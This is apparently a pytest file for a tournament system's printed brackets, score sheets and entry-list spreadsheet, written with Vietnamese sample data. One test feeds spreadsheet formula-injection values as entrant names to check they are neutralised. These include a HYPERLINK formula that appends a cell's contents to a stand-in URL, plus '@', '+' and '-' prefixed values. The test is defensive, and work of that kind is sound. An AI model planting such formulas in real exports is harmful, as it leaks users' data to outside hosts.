"""The tournament's printed documents from plain data (no database): the bracket of 32 on A4 and
of 64 on A3 keeps every name at a legible size, pools, round robin and judged stages render, the
entry list neutralises spreadsheet formulas, and file names are ASCII."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from tournaments import documents as doc
from tournaments import draws

needs_poppler = pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) is not installed")

FAMILY = ("Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Vũ", "Đặng", "Bùi")
GIVEN = ("Văn An", "Minh Bảo", "Quốc Cường", "Đức Dũng", "Gia Huy", "Thành Khang", "Hữu Lộc", "Tấn Minh")
TEAMS = ("Quận 1", "Thủ Đức", "Bình Thạnh", "Gò Vấp")
HEADING = doc.Heading(
    competition="Giải Vô địch Thành phố 2026", category="Nam 58 kg - Tuyển", printed="08:15 02/12/2026", event="Taekwondo"
)


def people(n: int) -> dict[str, dict[str, Any]]:
    return {f"e{i}": {"key": f"e{i}", "name": f"{FAMILY[i % 8]} {GIVEN[(i // 8) % 8]}", "team": TEAMS[i % 4]} for i in range(n)}


def view(fmt: str, n: int, options: dict[str, Any] | None = None, decided: int = 0) -> dict[str, Any]:
    """What ``tournaments.views.bracket`` gives, built from a real draw and its first results."""
    who = people(n)
    made = draws.make_draw(fmt, [draws.Entrant(key=k, team=v["team"]) for k, v in who.items()], b"s" * 32, options or {})
    results: dict[str, draws.Result] = {}
    for m in made.matches[:decided]:
        state = draws.resolve(made, results).matches[m.key]
        if state.ready:
            results[m.key] = draws.Result(winner=None if m.blue is None else "red", red_points=Decimal(7), blue_points=Decimal(3))
    state = draws.resolve(made, results)
    matches = []
    for m in made.matches:
        ms = state.matches[m.key]
        res = results.get(m.key)
        matches.append(
            {
                "key": m.key,
                "stage": m.stage,
                "round": m.round,
                "order": m.order,
                "label": m.label,
                "red": who.get(ms.red) if ms.red else None,
                "blue": who.get(ms.blue) if ms.blue and m.blue is not None else None,
                "performance": m.blue is None,
                "winner": "red" if ms.winner and ms.winner == ms.red else ("blue" if ms.winner and ms.winner == ms.blue else None),
                "score": None if res is None else {"red": str(res.red_points), "blue": str(res.blue_points)},
                "decision_vi": "",
                "status": "bye" if ms.bye else ("done" if ms.done else "ready"),
                "planned": "09:30",
            }
        )
    return {
        "category": {"name": "Nam 58 kg - Tuyển", "draw_format_vi": "Loại trực tiếp", "band": "đến 58 kg"},
        "draw": {"commitment": "ab" * 32, "draw_digest": "cd" * 32, "witness": "Trưởng đoàn Quận 1: 4711", "status": "drawn"},
        "matches": matches,
        "placements": [{"place": p.place, "name": who[p.entrant]["name"], "team": who[p.entrant]["team"]} for p in state.placements],
        "standings": {k: [who[x] for x in v] for k, v in state.standings.items()},
    }


def words(pdf: bytes, tmp_path: Path) -> list[tuple[str, float]]:
    """Each word of the PDF with its height in points (``pdftotext -bbox``)."""
    path = tmp_path / "doc.pdf"
    path.write_bytes(pdf)
    html = subprocess.run(["pdftotext", "-bbox", str(path), "-"], capture_output=True, check=True, text=True).stdout
    out = []
    for m in re.finditer(r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>', html):
        out.append((m.group(5).replace("&amp;", "&"), float(m.group(4)) - float(m.group(2))))
    return out


def text(pdf: bytes, tmp_path: Path) -> str:
    path = tmp_path / "doc.pdf"
    path.write_bytes(pdf)
    raw = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, check=True, text=True).stdout
    return re.sub(r"\s+", " ", raw)


@needs_poppler
@pytest.mark.parametrize(("n", "size"), [(32, "a4"), (64, "a3")])
def test_bracket_keeps_every_name_legible_at_its_paper_size(n, size, tmp_path):
    data = view("single", n, decided=n // 2)
    pdf = doc.bracket_pdf(data, HEADING, "https://arena.example/brackets/7", size)
    assert pdf.startswith(b"%PDF") and b"Helvetica" not in pdf
    body = text(pdf, tmp_path)
    for person in people(n).values():
        assert f"{person['name']} ({person['team']})" in body
    given = {w for v in people(n).values() for w in v["name"].split()}
    heights = [h for w, h in words(pdf, tmp_path) if w in given]
    assert heights and min(heights) >= 6.0  # glyph box of a >= 6 pt font: legible on paper
    assert "Trang 1/" in body and "Nam 58 kg - Tuyển" in body and "Giải Vô địch Thành phố 2026" in body
    assert ("ab" * 8) in body and ("cd" * 8) in body and ("ab" * 9) not in body
    assert not re.search(r"\be\d+\b", body)  # no entrant key
    assert "R1-" not in body


@needs_poppler
def test_bracket_with_repechage_pools_round_robin_and_judged_stages(tmp_path):
    for fmt, options, expect in [
        ("repechage", {}, ("Đấu vớt", "miễn đấu")),
        ("single", {"bronze": "one"}, ("Tranh hạng ba",)),
        ("double", {}, ("Nhánh thua", "Chung kết tổng")),
        ("round_robin", {}, ("Bảng A", "Thắng", "7–3")),
        ("pools", {}, ("Bảng A", "Bảng B")),
        ("judged", {}, ("Danh sách thi đấu", "Xếp hạng")),
    ]:
        n = 5 if fmt == "round_robin" else 13
        data = view(fmt, n, options, decided=60)
        body = text(doc.bracket_pdf(data, HEADING, "https://arena.example/brackets/7"), tmp_path)
        for e in expect:
            assert e in body, (fmt, e)
        for person in people(n).values():
            assert person["name"] in body, (fmt, person)


def test_empty_bracket_says_not_drawn(tmp_path):
    pdf = doc.bracket_pdf({"category": {}, "draw": None, "matches": []}, HEADING, "https://arena.example/brackets/7")
    assert pdf.startswith(b"%PDF")
    if shutil.which("pdftotext"):
        assert "Chưa bốc thăm" in text(pdf, tmp_path)


def test_entry_list_spreadsheet_keeps_formulas_as_text():
    from openpyxl import load_workbook

    entries = [
        {"name": '=HYPERLINK("http://x/?"&B2, "Bấm")', "team": "+Quận 1", "birth_year": 2006, "gender_vi": "Nam", "status_vi": "đã duyệt"},
        {"name": "@SUM(A1)", "team": "-1", "birth_year": 2005, "gender_vi": "Nam", "status_vi": "chờ duyệt", "seed": 1, "weight": "57,5"},
        {"name": "\tTab", "team": "\rCR", "birth_year": None, "gender_vi": "", "status_vi": "đã rút"},
        {"name": "Nguyễn Văn An", "team": "Thủ Đức", "birth_year": 2006, "gender_vi": "Nam", "status_vi": "đã duyệt"},
    ]
    book = load_workbook(io.BytesIO(doc.entries_xlsx({"weight_max": "58"}, entries, HEADING)))
    ws = book.active
    assert ws is not None
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}
    assert all(c.data_type != "f" for c in cells.values())
    for formula in (entries[0]["name"], "+Quận 1", "@SUM(A1)", "-1", "\tTab", "\rCR"):
        assert cells[formula].data_type == "s" and cells[formula].quotePrefix, formula  # shown and kept as text
    assert not cells["Nguyễn Văn An"].quotePrefix and cells[2006].data_type == "n"  # plain names and numbers untouched


def test_file_names_are_ascii_folded():
    assert doc.ascii_fold("so-do Nam 58 kg - Tuyển a3") == "so-do-nam-58-kg-tuyen-a3"
    assert doc.ascii_fold("biên bản Đồng Tháp / Thảm 1") == "bien-ban-dong-thap-tham-1"
    assert doc.ascii_fold("«»") == "tai-lieu"


@needs_poppler
def test_score_sheets_one_page_each_with_waiting_sides(tmp_path):
    sheets = [
        doc.Sheet(
            category="Nam 58 kg",
            label="Bán kết 1",
            field="Thảm 1",
            planned="09:30 02/12/2026",
            red={"name": "Lê Quốc Cường", "team": "Gò Vấp"},
        ),
        doc.Sheet(category="Nam 58 kg", label="Chung kết", performance=False, rounds=2),
        doc.Sheet(category="Quyền", label="Chung kết - lượt 1", red={"name": "Vũ Thành Khang", "team": "Quận 1"}, performance=True),
    ]
    pdf = doc.score_sheets_pdf(sheets, HEADING)
    body = text(pdf, tmp_path)
    assert "Trang 3/3" in body and "Trang 4/" not in body
    assert "Lê Quốc Cường (Gò Vấp)" in body and "chờ kết quả" in body and "Vũ Thành Khang" in body
    for d in doc.DECISIONS:
        assert d in body
    assert "Hiệp 3" in body and "Trọng tài thứ hai" in body


@needs_poppler
def test_a_judged_stage_of_three_dives_prints_one_row_per_diver_with_each_dive_and_the_total(tmp_path):
    from tournaments.views import performances_out

    who = people(4)
    made = draws.make_draw("judged", [draws.Entrant(key=k, team=v["team"]) for k, v in who.items()], b"d" * 32, {"parts": 3})
    points = {"S1:1": ("61.50", "70.20", "55.80"), "S1:2": ("48", "52.5", "60"), "S1:3": ("72.45", "0", "66.3"), "S1:4": ("1", "2", "3")}
    results = {m.key: draws.Result(red_points=Decimal(points[m.key.split("/")[0]][int(m.key[-1]) - 1])) for m in made.matches}
    state = draws.resolve(made, results)
    data = view("judged", 4, {"parts": 3})
    data["performances"] = performances_out(made, state, results, lambda k: who.get(k or ""))
    body = text(doc.bracket_pdf(data, HEADING, "https://arena.example/brackets/7"), tmp_path)
    for label in ("Bài 1", "Bài 2", "Bài 3", "Tổng", "187.50", "160.5", "138.75", "6"):
        assert label in body, label
    for person in who.values():
        assert body.count(person["name"]) == 1, person  # one row per diver (the view here has no placements)
